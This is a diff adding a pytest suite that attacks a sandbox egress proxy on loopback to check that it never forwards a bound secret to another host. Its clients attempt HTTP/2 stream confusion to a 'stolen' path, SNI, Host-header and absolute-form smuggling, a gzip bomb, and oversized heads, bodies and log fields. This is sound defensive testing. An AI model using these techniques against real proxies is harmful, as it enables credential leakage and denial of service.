@@ -1,0 +1,390 @@
+"""The real egress proxy process on loopback, attacked with hand-written clients (no daemon).
+
+The bundle's `run_proxy` runs as a subprocess with every `*.test` name resolving to 127.0.0.1
+and an echo upstream (HTTP and HTTPS with its own CA, trusted through `upstream_ca_files`) that
+reports the headers, request target and TLS server name it saw. `secret.test` is bound to the
+secret; `other.test` is allowed but not bound (the "co-tenant on the same front").
+The same attacks run from inside a real bottle in tests/escape/test_egress_attacks.py.
+BOTTLE_LIVE_PROXY_SRC=/other/checkout runs that checkout's proxy instead (to watch the attacks
+succeed against an older one).
+"""
+
+from __future__ import annotations
+
+import gzip
+import json
+import os
+import socket
+import ssl
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from bottle_engine.bundle.audit import read_audit
+from bottle_engine.bundle.config import CA_CERT_NAME, BundleConfig, SecretBinding
+from bottle_engine.bundle.egress_guards import MAX_REQUEST_HEAD
+from tests.bundle_helpers import free_port, make_test_ca
+
+REPO = Path(__file__).resolve().parents[2]
+PLACEHOLDER = "bb-live-placeholder-7d1e"
+REAL = "real-live-value-42af"
+
+SERVE = """
+import asyncio, sys
+from pathlib import Path
+from bottle_engine.bundle.config import BundleConfig
+from bottle_engine.bundle.egress import run_proxy
+
+async def loopback(host, port):
+    return ["127.0.0.1"] if host.endswith(".test") else []
+
+config = BundleConfig.from_json(Path(sys.argv[1]).read_text())
+asyncio.run(run_proxy(config, "127.0.0.1", int(sys.argv[2]), resolver=loopback))
+"""
+
+
+@dataclass(frozen=True)
+class Lab:
+    proxy: int
+    https: int
+    http: int
+    bottle_ca: Path
+    audit: Path
+
+
+def _wait_port(port: int, process: subprocess.Popen[bytes]) -> None:
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline:
+        assert process.poll() is None, f"exited early: {process.args}"
+        try:
+            socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
+            return
+        except OSError:
+            time.sleep(0.1)
+    raise AssertionError(f"nothing listens on {port}")
+
+
+@pytest.fixture(scope="module")
+def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
+    root = tmp_path_factory.mktemp("egress-live")
+    tls = make_test_ca(root / "tls", ["secret.test", "other.test"])
+    (root / "secret").write_text(REAL + "\n")
+    https, http, proxy = free_port(), free_port(), free_port()
+    config = BundleConfig(
+        slug="live",
+        bundle_ip="10.255.255.2",
+        agent_subnet="10.255.255.0/24",
+        egress_allow=(
+            *(f"{name}:{port}" for name in ("secret.test", "other.test") for port in (https, http)),
+            f"127.0.0.1:{https}",  # an exact entry lifts the loopback refusal for this lab only
+            f"127.0.0.1:{http}",
+        ),
+        secrets=(
+            SecretBinding("token", PLACEHOLDER, (f"secret.test:{https}",), str(root / "secret")),
+        ),
+        state_dir=str(root / "state"),
+        upstream_ca_files=(str(tls.ca_cert),),
+    )
+    (root / "bundle.json").write_text(config.to_json())
+    upstream = subprocess.Popen(
+        [
+            *(sys.executable, str(REPO / "tests" / "bundle_helpers.py"), "serve"),
+            *("--host", "127.0.0.1", "--http-port", str(http), "--https-port", str(https)),
+            *("--tls-cert", str(tls.server_cert), "--tls-key", str(tls.server_key)),
+        ],
+        stdout=subprocess.DEVNULL,
+    )
+    source = os.environ.get("BOTTLE_LIVE_PROXY_SRC", str(REPO))
+    server = subprocess.Popen(
+        [sys.executable, "-c", SERVE, str(root / "bundle.json"), str(proxy)],
+        cwd=source,
+        env={"PYTHONPATH": source, "PATH": "/usr/bin:/bin"},
+    )
+    try:
+        _wait_port(http, upstream)
+        _wait_port(proxy, server)
+        yield Lab(proxy, https, http, root / "state" / "ca" / CA_CERT_NAME, config.audit_log)
+    finally:
+        for process in (server, upstream):
+            process.terminate()
+            process.wait(timeout=30)
+
+
+# --------------------------------------------------------------------------- clients
+
+
+def _read_response(sock: socket.socket, head_only: bool = False) -> tuple[int, bytes, bytes]:
+    """(status, head, body) of one HTTP/1.1 response (Content-Length or until close)."""
+    data = b""
+    while b"\r\n\r\n" not in data:
+        chunk = sock.recv(65536)
+        if not chunk:
+            raise ConnectionError(f"closed before a response head: {data!r}")
+        data += chunk
+    head, _, body = data.partition(b"\r\n\r\n")
+    status = int(head.split(b" ", 2)[1])
+    length = next(
+        (
+            int(line.split(b":", 1)[1])
+            for line in head.split(b"\r\n")[1:]
+            if line.lower().startswith(b"content-length:")
+        ),
+        None,
+    )
+    while not head_only and (length is None or len(body) < length):
+        chunk = sock.recv(65536)
+        if not chunk:
+            break
+        body += chunk
+    return status, head, body
+
+
+def _connect(lab: Lab) -> socket.socket:
+    return socket.create_connection(("127.0.0.1", lab.proxy), timeout=20)
+
+
+def tunnel(lab: Lab, host: str, *, sni: str | None = None) -> ssl.SSLSocket:
+    """CONNECT host:https through the proxy, then TLS with `sni` (default: host) inside."""
+    sock = _connect(lab)
+    sock.sendall(
+        f"CONNECT {host}:{lab.https} HTTP/1.1\r\nHost: {host}:{lab.https}\r\n\r\n".encode()
+    )
+    status, _, _ = _read_response(sock, head_only=True)
+    assert status == 200
+    context = ssl.create_default_context(cafile=str(lab.bottle_ca))
+    return context.wrap_socket(sock, server_hostname=sni or host)
+
+
+def exchange(sock: socket.socket, request: bytes) -> tuple[int, dict[str, object] | str]:
+    sock.sendall(request)
+    status, _, body = _read_response(sock)
+    try:
+        return status, json.loads(body)
+    except ValueError:
+        return status, body.decode("utf-8", "replace")
+
+
+def get(target: str, host: str, *headers: str, body: bytes = b"") -> bytes:
+    lines = [f"GET {target} HTTP/1.1", f"Host: {host}", *headers]
+    if body:
+        lines.append(f"Content-Length: {len(body)}")
+    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body
+
+
+AUTH = f"Authorization: Bearer {PLACEHOLDER}"
+
+
+# --------------------------------------------------------------------------- the control
+
+
+def test_the_bound_host_gets_the_real_value_and_its_own_name_as_sni(lab: Lab) -> None:
+    host = f"secret.test:{lab.https}"
+    with tunnel(lab, "secret.test") as sock:
+        status, seen = exchange(sock, get("/ok", host, AUTH))
+    assert status == 200 and isinstance(seen, dict)
+    assert seen["headers"]["Authorization"] == f"Bearer {REAL}"  # type: ignore[index]
+    assert seen["sni"] == "secret.test"
+
+
+def test_a_second_request_on_a_kept_alive_tunnel_is_judged_on_its_own(lab: Lab) -> None:
+    host = f"secret.test:{lab.https}"
+    with tunnel(lab, "secret.test") as sock:
+        first, _ = exchange(sock, get("/1", host, AUTH))
+        second, body = exchange(sock, get("/2", f"other.test:{lab.https}", AUTH))
+    assert first == 200
+    assert second == 403 and "name-mismatch" in str(body)
+
+
+# --------------------------------------------------------------------------- the attacks
+
+
+def _h2_stream_confusion(lab: Lab) -> tuple[int | None, bytes]:
+    """One TLS connection to the proxy port with ALPN h2: CONNECT to the bound host on stream 1,
+    a plain-HTTP request to another host carrying the placeholder on stream 3."""
+    import h2.config
+    import h2.connection
+    import h2.events
+
+    sock = _connect(lab)
+    context = ssl.create_default_context(cafile=str(lab.bottle_ca))
+    context.check_hostname = False
+    context.set_alpn_protocols(["h2"])
+    try:
+        tls = context.wrap_socket(sock, server_hostname="proxy.test")
+    except (ssl.SSLError, OSError):
+        return None, b""
+    if tls.selected_alpn_protocol() != "h2":
+        tls.close()
+        return None, b""
+    conn = h2.connection.H2Connection(
+        h2.config.H2Configuration(client_side=True, validate_outbound_headers=False)
+    )
+    conn.initiate_connection()
+    authority = f"secret.test:{lab.https}"
+    conn.send_headers(
+        1, [(":method", "CONNECT"), (":scheme", "https"), (":path", "/"), (":authority", authority)]
+    )
+    conn.send_headers(
+        3,
+        [
+            (":method", "GET"),
+            (":scheme", "http"),
+            (":authority", f"other.test:{lab.http}"),
+            (":path", "/stolen"),
+            ("authorization", f"Bearer {PLACEHOLDER}"),
+        ],
+        end_stream=True,
+    )
+    tls.sendall(conn.data_to_send())
+    body, status = b"", None
+    with tls:
+        while True:
+            data = tls.recv(65536)
+            if not data:
+                break
+            for event in conn.receive_data(data):
+                if isinstance(event, h2.events.ResponseReceived) and event.stream_id == 3:
+                    status = int(dict(event.headers)[b":status"])
+                if isinstance(event, h2.events.DataReceived) and event.stream_id == 3:
+                    body += event.data
+                if isinstance(event, h2.events.StreamEnded) and event.stream_id == 3:
+                    return status, body
+            tls.sendall(conn.data_to_send())
+    return status, body
+
+
+def test_h2_stream_confusion_never_carries_the_secret_elsewhere(lab: Lab) -> None:
+    status, body = _h2_stream_confusion(lab)
+    assert REAL.encode() not in body
+    assert status is None  # the proxy port speaks no TLS (so no h2) to the agent at all
+
+
+def test_tls_to_the_proxy_port_is_refused_and_logged(lab: Lab) -> None:
+    context = ssl.create_default_context(cafile=str(lab.bottle_ca))
+    context.check_hostname = False
+    with pytest.raises((ssl.SSLError, OSError)), _connect(lab) as sock:
+        context.wrap_socket(sock, server_hostname="proxy.test")
+    assert any(e.rule == "tls-to-proxy" for e in read_audit(lab.audit))
+
+
+def test_client_sni_naming_another_host_is_refused(lab: Lab) -> None:
+    with tunnel(lab, "secret.test", sni="other.test") as sock:
+        status, body = exchange(sock, get("/", f"other.test:{lab.https}", AUTH))
+    assert status == 403 and "name-mismatch" in str(body) and "SNI" in str(body)
+
+
+def test_sni_mismatch_with_matching_host_header_is_refused(lab: Lab) -> None:
+    with tunnel(lab, "secret.test", sni="other.test") as sock:
+        status, body = exchange(sock, get("/", f"secret.test:{lab.https}", AUTH))
+    assert status == 403 and "SNI" in str(body)
+
+
+def test_host_header_naming_another_host_is_refused(lab: Lab) -> None:
+    with tunnel(lab, "secret.test") as sock:
+        status, body = exchange(sock, get("/", f"other.test:{lab.https}", AUTH))
+    assert status == 403 and "Host header" in str(body)
+
+
+def test_absolute_form_inside_a_tunnel_naming_another_host_is_refused(lab: Lab) -> None:
+    target = f"https://other.test:{lab.https}/"
+    with tunnel(lab, "secret.test") as sock:
+        status, body = exchange(sock, get(target, f"secret.test:{lab.https}", AUTH))
+    assert status == 403 and "absolute-form" in str(body)
+
+
+def test_plain_http_host_differing_from_the_url_is_refused(lab: Lab) -> None:
+    with _connect(lab) as sock:
+        status, body = exchange(
+            sock, get(f"http://other.test:{lab.http}/", f"secret.test:{lab.https}")
+        )
+    assert status == 403 and "name-mismatch" in str(body)
+
+
+def test_plain_http_request_carrying_the_placeholder_is_refused(lab: Lab) -> None:
+    with _connect(lab) as sock:
+        status, body = exchange(
+            sock, get(f"http://other.test:{lab.http}/", f"other.test:{lab.http}", AUTH)
+        )
+    assert status == 403 and "secret-wrong-host" in str(body)
+
+
+def test_an_unending_request_head_gets_431_naming_the_limit(lab: Lab) -> None:
+    with _connect(lab) as sock:
+        sock.sendall(b"GET http://other.test/ HTTP/1.1\r\nX-Big: ")
+        status = None
+        sent = 0
+        try:
+            while sent < 8 * MAX_REQUEST_HEAD:  # bounded: the guard answers long before
+                sock.sendall(b"a" * 16384)
+                sent += 16384
+        except OSError:
+            pass
+        status, _, body = _read_response(sock)
+    assert status == 431 and b"request-head-limit" in body
+
+
+def test_a_huge_body_to_a_denied_host_is_refused_without_reading_it(lab: Lab) -> None:
+    size = 64 * 1024 * 1024  # announced; far less is sent before the 403 arrives
+    with _connect(lab) as sock:
+        sock.sendall(
+            f"POST http://denied.invalid/ HTTP/1.1\r\nHost: denied.invalid\r\n"
+            f"Content-Length: {size}\r\n\r\n".encode()
+        )
+        sent = 0
+        try:
+            while sent < size:
+                sock.sendall(b"x" * 65536)
+                sent += 65536
+        except OSError:
+            pass
+        status, _, body = _read_response(sock)
+    assert status == 403 and b"default-deny" in body
+    assert sent < size
+
+
+def test_a_gzip_bomb_to_the_bound_host_gets_413_naming_the_limit(lab: Lab) -> None:
+    bomb = gzip.compress(b"\0" * (64 * 1024 * 1024), compresslevel=9)
+    assert len(bomb) < 256 * 1024
+    host = f"secret.test:{lab.https}"
+    request = get("/", host, AUTH, "Content-Encoding: gzip", body=bomb).replace(b"GET", b"POST", 1)
+    with tunnel(lab, "secret.test") as sock:
+        status, body = exchange(sock, request)
+    assert status == 413 and "decoded-body-limit" in str(body)
+
+
+def test_audit_fields_are_capped(lab: Lab) -> None:
+    method = "X" * 40000
+    with _connect(lab) as sock:
+        sock.sendall(
+            f"{method} http://denied.invalid/ HTTP/1.1\r\nHost: denied.invalid\r\n\r\n".encode()
+        )
+        status, _, _ = _read_response(sock)
+    assert status == 403
+    lines = lab.audit.read_text().splitlines()
+    long_line = next(line for line in lines if "XXXX" in line)
+    assert len(long_line) < 4096 and "more characters cut" in long_line
+
+
+def test_a_tunnel_is_logged_when_it_opens_and_again_when_it_closes(lab: Lab) -> None:
+    sock = _connect(lab)
+    sock.sendall(f"CONNECT other.test:{lab.https} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
+    assert _read_response(sock, head_only=True)[0] == 200
+    deadline = time.monotonic() + 10
+    opened = []
+    while not opened and time.monotonic() < deadline:
+        opened = [e for e in read_audit(lab.audit) if e.stage == "open" and e.host == "other.test"]
+        time.sleep(0.05)
+    assert opened, "no open record while the tunnel is open"
+    sock.sendall(b"through the tunnel")
+    sock.close()
+    deadline = time.monotonic() + 10
+    closed = []
+    while not closed and time.monotonic() < deadline:
+        closed = [e for e in read_audit(lab.audit) if e.stage == "close" and e.host == "other.test"]
+        time.sleep(0.05)
+    assert closed and closed[-1].bytes_sent >= len(b"through the tunnel")
